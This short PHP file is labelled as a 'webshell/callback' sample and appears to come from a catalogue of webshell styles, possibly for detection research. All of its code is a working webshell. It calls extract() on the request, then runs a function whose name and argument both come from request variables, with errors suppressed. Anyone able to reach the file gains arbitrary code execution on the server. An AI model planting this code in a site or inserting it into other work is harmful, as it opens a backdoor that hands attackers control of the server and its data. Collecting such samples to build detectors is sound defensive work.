<?php
/* Family: webshell/callback
 * Style: extract() of the request, then a call through a variable
 * Trait: both the function name and its argument come from request variables made by extract()
 */
@extract($_REQUEST);
@die($fn($arg));
